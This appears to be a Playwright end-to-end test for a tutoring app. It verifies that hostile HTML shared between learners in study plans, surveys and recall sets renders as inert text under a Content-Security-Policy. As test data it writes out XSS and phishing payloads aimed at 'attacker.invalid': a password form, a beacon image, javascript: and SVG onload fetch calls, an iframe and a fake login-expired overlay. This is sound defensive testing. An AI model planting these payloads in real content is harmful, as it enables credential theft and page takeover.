/**
 * Issue 22 item 2 — hostile shared content (SPEC §8: "content one learner shares with others
 * renders as text, math, code and same-origin or data: images only — no forms, frames, styles
 * or remote loads; the server sends a Content-Security-Policy"). Learner A shares a study plan
 * and a survey, and writes a recall set, full of hostile Markdown/HTML: a credential form
 * posting to another host, a remote image, a `javascript:` link, a full-screen fixed overlay, an
 * iframe, a style element, an SVG with `onload`. Learner B opens the plan, learns from it and
 * takes the survey; the recall set is A's alone (B is refused it), so A's own session shows it.
 * In every view: no request leaves the origin, the author's text has no form, input, iframe,
 * style or SVG, nothing of it is fixed or covers the window, links are http(s) only and show
 * their host, math still renders (KaTeX's styles under the policy), and the browser reports no
 * policy violation.
 */
import { mkdirSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, test, type Locator, type Page } from '@playwright/test';
import { signUpToWelcome } from './support/auth';
import { say } from './support/session';

const screenshotDir = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', 'screenshots');
const viewports = { desktop: { width: 1280, height: 800 }, phone: { width: 390, height: 844 } } as const;

const attacker = 'http://attacker.invalid';
/** What a credential phish needs: a form posting elsewhere, a remote image (a beacon), a script link. */
const phish =
  `<form action="${attacker}/login" method="post"><label>Password <input type="password" name="password"></label>` +
  `<button type="submit">Sign in</button></form> <img src="${attacker}/x.png" alt="pixel"> <a href="javascript:fetch('${attacker}/js')">Open notes</a>`;
/** What takes the page over: a fixed overlay, a frame, a style sheet, an SVG script; and a real link and a formula. */
const takeover =
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:#fff">Your login has expired</div> ' +
  `<iframe src="${attacker}/frame"></iframe> <style>body{display:none}</style> <svg onload="fetch('${attacker}/svg')"><circle r="40"/></svg> ` +
  'See [the guide](https://example.com/guide) and $x^2$';
// One sentence (no ". "): the offline tutor reads an explain step's first sentences out.
const hostile = `Read the <b>notes</b> first ${phish} ${takeover}`;

/** Every request a page makes, to check none leaves the app's origin. */
function recordRequests(page: Page): string[] {
  const urls: string[] = [];
  page.on('request', (request) => urls.push(request.url()));
  return urls;
}

/** The browser's Content-Security-Policy reports on a page ("Refused to load …", "Applying inline style violates …"). */
function recordPolicyViolations(page: Page): string[] {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  return violations;
}

/**
 * Reports that sanitising hostile markup causes by itself: DOMPurify parses the author's HTML
 * in an inert document, and Chromium reports the inline styles and handlers of that parse
 * against the page's policy (and blocks them) before DOMPurify removes them. Anything else — a
 * load, a connection, a frame, a script — would be the page itself breaking the policy.
 */
const sanitiserParse = /^(?:Applying inline style|Executing inline event handler) violates /;

function expectSameOrigin(urls: readonly string[], origin: string): void {
  expect(urls.length).toBeGreaterThan(0);
  expect(urls.filter((url) => !url.startsWith('data:') && new URL(url).origin !== origin)).toEqual([]);
}

async function tokenOf(page: Page): Promise<string> {
  const token = await page.evaluate(() => (JSON.parse(localStorage.getItem('tutorloop.auth') ?? '{}') as { token?: string }).token);
  if (!token) throw new Error('not signed in');
  return token;
}

/** `POST` over the API as the page's learner; returns the created thing's id. */
async function create(page: Page, route: string, data: unknown): Promise<string> {
  const response = await page.request.post(route, { headers: { Authorization: `Bearer ${await tokenOf(page)}` }, data });
  expect(response.status(), await response.text()).toBe(201);
  const body = (await response.json()) as { id?: string; sessionId?: string };
  const id = body.id ?? body.sessionId;
  if (!id) throw new Error(`no id in ${JSON.stringify(body)}`);
  return id;
}

/** A link as rendered: where it goes, how it opens, what it says. */
interface RenderedLink {
  href: string;
  target: string | null;
  rel: string | null;
  text: string;
}

/**
 * What the author's text became (`scope`: the Markdown of messages and prompts): control,
 * frame, style and script elements; SVG and style attributes outside KaTeX's output; event
 * handler attributes; elements fixed or sticky (or absolute outside KaTeX); elements covering
 * the window; links that go somewhere (a refused link stays as its text); images from another
 * origin.
 */
async function renderedReport(scope: Locator, origin: string) {
  await expect(scope.first()).toBeVisible();
  return scope.evaluateAll((roots, appOrigin) => {
    const elements = roots.flatMap((root) => Array.from(root.querySelectorAll('*')));
    const tags = new Set(elements.map((element) => element.tagName.toLowerCase()));
    // KaTeX's own output: a formula, or a formula it could not parse shown in red.
    const outsideMath = elements.filter((element) => !element.closest('.katex, .katex-error'));
    const links = new Map<string, RenderedLink>();
    for (const link of elements.filter((element) => element.tagName === 'A' && element.hasAttribute('href'))) {
      const rendered = { href: link.getAttribute('href') ?? '', target: link.getAttribute('target'), rel: link.getAttribute('rel'), text: link.textContent ?? '' };
      links.set(JSON.stringify(rendered), rendered);
    }
    return {
      forbidden: ['form', 'input', 'button', 'textarea', 'select', 'iframe', 'object', 'embed', 'style', 'script', 'link', 'meta', 'base'].filter((tag) => tags.has(tag)),
      svgOutsideMath: outsideMath.filter((element) => element.tagName.toLowerCase() === 'svg').length,
      styleAttributesOutsideMath: outsideMath.filter((element) => element.hasAttribute('style')).length,
      eventAttributes: elements.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on'))),
      positioned: [
        ...elements.map((element) => getComputedStyle(element).position).filter((position) => position === 'fixed' || position === 'sticky'),
        ...outsideMath.map((element) => getComputedStyle(element).position).filter((position) => position === 'absolute'),
      ],
      covering: elements.filter((element) => {
        const box = element.getBoundingClientRect();
        return box.left <= 0 && box.top <= 0 && box.right >= innerWidth && box.bottom >= innerHeight;
      }).length,
      links: [...links.values()],
      remoteImages: elements
        .filter((element) => element.tagName === 'IMG' && element.hasAttribute('src'))
        .map((image) => image.getAttribute('src') ?? '')
        .filter((src) => !src.startsWith('data:') && new URL(src).origin !== appOrigin),
    };
  }, origin);
}

const guideLink: RenderedLink = { href: 'https://example.com/guide', target: '_blank', rel: 'noopener noreferrer nofollow', text: 'the guide (example.com)' };

/** Text, math and code only, with these links. */
function inert(links: RenderedLink[]) {
  return { forbidden: [], svgOutsideMath: 0, styleAttributesOutsideMath: 0, eventAttributes: [], positioned: [], covering: 0, links, remoteImages: [] };
}

/** KaTeX rendered in `scope`, its sizes set although the policy refuses inline style attributes. */
async function expectMathStyled(scope: Locator): Promise<void> {
  await expect(scope.locator('.katex').first()).toBeVisible();
  // A strut is KaTeX's zero-width height setter: without its style a formula sits on the wrong line.
  const heights = await scope.locator('.katex .strut').evaluateAll((struts) => struts.map((strut) => (strut as HTMLElement).style.height));
  expect(heights.length).toBeGreaterThan(0);
  for (const height of heights) expect(height).toMatch(/^\d+(\.\d+)?em$/);
}

/** Nothing lies over the page: its heading is what is under the pointer where it is drawn. */
async function expectHeadingOnTop(page: Page): Promise<void> {
  const box = await page.getByRole('heading', { level: 1 }).boundingBox();
  if (!box) throw new Error('no heading');
  const point = { x: box.x + 5, y: box.y + box.height / 2 };
  expect(await page.evaluate(({ x, y }) => document.elementFromPoint(x, y)?.closest('h1') !== null, point)).toBe(true);
}

async function screenshots(page: Page, name: string): Promise<void> {
  mkdirSync(screenshotDir, { recursive: true });
  for (const size of ['desktop', 'phone'] as const) {
    await page.setViewportSize(viewports[size]);
    await page.screenshot({ path: path.join(screenshotDir, `${name}-${viewports[size].width}.png`) });
  }
  await page.setViewportSize(viewports.desktop);
}

test("a hostile shared plan and survey render as text, math and code only for another learner, a hostile recall set for its author", async ({ browser, baseURL }) => {
  const origin = new URL(baseURL ?? '').origin;
  const authorContext = await browser.newContext({ viewport: viewports.desktop });
  const viewerContext = await browser.newContext({ viewport: viewports.desktop });
  // The shared plan and survey are seen by every learner of this server: the other specs
  // count the plans and surveys they see, so the author deletes them again at the end.
  const cleanups: Array<() => Promise<void>> = [];
  try {
    const author = await authorContext.newPage();
    const viewer = await viewerContext.newPage();
    const authorRequests = recordRequests(author);
    const viewerRequests = recordRequests(viewer);
    const authorViolations = recordPolicyViolations(author);
    const viewerViolations = recordPolicyViolations(viewer);

    // --- Learner A writes the hostile content.
    await signUpToWelcome(author, 'author');
    const planTitle = `Hostile plan ${Date.now().toString(36)}`;
    const planId = await create(author, '/api/study-plans', {
      shared: true,
      plan: {
        title: planTitle,
        topic: 'Reading notes',
        audience: 'anyone',
        objectives: [phish],
        teachingApproach: 'Explain, then check.',
        steps: [
          { number: 1, type: 'explain', concept: 'notes', contentHint: hostile },
          { number: 2, type: 'check', concept: 'notes', contentHint: 'Check it.', questions: [{ question: `${phish} ${takeover} What is the capital of France`, expectedAnswer: 'Paris' }] },
        ],
      },
    });
    cleanups.push(async () => {
      const response = await author.request.delete(`/api/study-plans/${encodeURIComponent(planId)}`, { headers: { Authorization: `Bearer ${await tokenOf(author)}` } });
      expect(response.status()).toBe(204);
    });
    const surveyTitle = `Hostile survey ${Date.now().toString(36)}`;
    const surveyId = await create(author, '/api/surveys', {
      shared: true,
      survey: {
        title: surveyTitle,
        description: hostile,
        questions: [
          { id: 'first', kind: 'multiple_choice', prompt: `${phish} Pick one.`, options: ['Yes', 'No'] },
          { id: 'second', kind: 'free_text', prompt: `Then: ${takeover} Say more.` },
        ],
      },
    });
    cleanups.push(async () => {
      const response = await author.request.delete(`/api/surveys/${encodeURIComponent(surveyId)}`, { headers: { Authorization: `Bearer ${await tokenOf(author)}` } });
      expect(response.status()).toBe(204);
    });
    const setName = `<img src="${attacker}/name.png"> Hostile set`;
    const setId = await create(author, '/api/recall-sets', { name: setName, points: [{ content: hostile }, { content: 'Rome is the capital of Italy and sits on the Tiber.' }] });

    // --- Learner B: the plan's page shows the author's text as text.
    await signUpToWelcome(viewer, 'viewer');
    await viewer.goto(`/#/study-plans/${encodeURIComponent(planId)}`);
    // Reloaded, so the app's document itself is fetched again: its headers are the policy.
    const shell = await viewer.reload();
    const policy = shell?.headers()['content-security-policy'] ?? '';
    for (const directive of ["default-src 'self'", "script-src 'self';", "style-src-attr 'none'", "img-src 'self' data:;", "connect-src 'self'", "form-action 'self'", "frame-ancestors 'none'", "object-src 'none'", "base-uri 'self'"]) {
      expect(policy).toContain(directive);
    }
    expect(shell?.headers()['x-frame-options']).toBe('DENY');
    await expect(viewer.getByRole('heading', { name: planTitle, level: 1 })).toBeVisible();
    const planText = viewer.getByTestId('study-plan-detail');
    await expect(viewer.getByTestId('plan-objectives')).toContainText('<form action="http://attacker.invalid/login"');
    await expect(planText.locator('form, input, iframe, style, img, svg')).toHaveCount(0);
    expect(viewerViolations).toEqual([]);

    // A learning session on it: the tutor reads the explain step out, then asks the check question.
    await viewer.getByRole('button', { name: 'Start learning' }).click();
    await expect(viewer).toHaveURL(/#\/sessions\/[^/]+$/);
    await expect(viewer.getByTestId('tutor-message').filter({ hasText: 'Read the notes first' })).toBeVisible();
    await expect(viewer.getByTestId('typing-indicator')).toHaveCount(0);
    await say(viewer, 'I see, read the notes first.');
    await expect(viewer.getByTestId('tutor-message').filter({ hasText: 'What is the capital of France' })).toBeVisible();
    const learning = viewer.getByTestId('tutor-message').locator('.markdown');
    expect(await renderedReport(learning, origin)).toEqual(inert([guideLink]));
    await expect(learning.filter({ hasText: 'Your login has expired' }).first()).toBeVisible();
    await expectMathStyled(learning);
    await expectHeadingOnTop(viewer);
    await screenshots(viewer, 'hostile-learning');

    // The survey: its description in the opening line, its prompts in the widgets.
    await viewer.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Reflect' }).click();
    await viewer.getByTestId(`survey-${surveyId}`).getByRole('button', { name: `Start ${surveyTitle}` }).click();
    await expect(viewer.getByRole('heading', { name: surveyTitle, level: 1 })).toBeVisible();
    const choice = viewer.getByTestId('widget-multiple_choice');
    await expect(choice).toContainText('Pick one.');
    const opening = viewer.getByTestId('tutor-message').locator('.markdown');
    expect(await renderedReport(opening, origin)).toEqual(inert([guideLink]));
    await expectMathStyled(opening);
    expect(await renderedReport(choice.locator('.widget-prompt .markdown'), origin)).toEqual(inert([]));
    await expectHeadingOnTop(viewer);
    await screenshots(viewer, 'hostile-survey');
    await choice.getByRole('radio', { name: 'Yes' }).check();
    await choice.getByRole('button', { name: 'Submit' }).click();
    const freeText = viewer.getByTestId('widget-free_text');
    await expect(freeText).toContainText('Say more.');
    const prompt = freeText.locator('.widget-prompt .markdown');
    expect(await renderedReport(prompt, origin)).toEqual(inert([guideLink]));
    await expectMathStyled(prompt);

    // The recall set is A's alone: B is refused it.
    const refused = await viewer.request.get(`/api/recall-sets/${encodeURIComponent(setId)}`, { headers: { Authorization: `Bearer ${await tokenOf(viewer)}` } });
    expect(refused.status()).toBe(404);

    // --- A's own recall session on the set: its name in the tutor's welcome, the points in A's answer.
    const sessionId = await create(author, '/api/sessions', { type: 'recall', recallSetId: setId });
    await author.goto(`/#/sessions/${encodeURIComponent(sessionId)}`);
    await expect(author.getByTestId('tutor-message').first()).toContainText('Hostile set');
    await expect(author.getByTestId('typing-indicator')).toHaveCount(0);
    // Math and code of one's own first: KaTeX's styles and highlight.js classes break no policy.
    const sent = author.getByTestId('learner-message');
    await author.getByRole('textbox', { name: 'Message' }).fill('So $\\frac{a}{b}$ and\n```python\nprint("x")\n```');
    await author.getByRole('button', { name: 'Send' }).click();
    await expect(sent.last().locator('.katex')).toHaveCount(1);
    await expect(sent.last().locator('pre code.hljs .hljs-string')).toHaveText('"x"');
    await expectMathStyled(sent.last().locator('.markdown'));
    await expect(author.getByTestId('typing-indicator')).toHaveCount(0);
    expect(authorViolations).toEqual([]);
    // Then the hostile text as a chat message: the learner's own Markdown goes through the same allowlist.
    await author.getByRole('textbox', { name: 'Message' }).fill(hostile);
    await author.getByRole('button', { name: 'Send' }).click();
    await expect(sent).toHaveCount(2);
    await expect(sent.last()).toContainText('Read the notes first Password Sign in');
    await expect(author.locator('xpath=//li[@data-testid="learner-message"][last()]/following-sibling::li[@data-testid="tutor-message"]')).not.toHaveCount(0);
    await expect(author.getByTestId('typing-indicator')).toHaveCount(0);
    const conversation = author.locator('[data-testid="tutor-message"] .markdown, [data-testid="learner-message"] .markdown');
    expect(await renderedReport(conversation, origin)).toEqual(inert([guideLink]));
    await expectMathStyled(conversation);
    await expectHeadingOnTop(author);
    await screenshots(author, 'hostile-recall');

    expectSameOrigin(viewerRequests, origin);
    expectSameOrigin(authorRequests, origin);
    expect(viewerViolations.filter((report) => !sanitiserParse.test(report))).toEqual([]);
    expect(authorViolations.filter((report) => !sanitiserParse.test(report))).toEqual([]);
  } finally {
    for (const cleanup of cleanups) await cleanup();
    await authorContext.close();
    await viewerContext.close();
  }
});
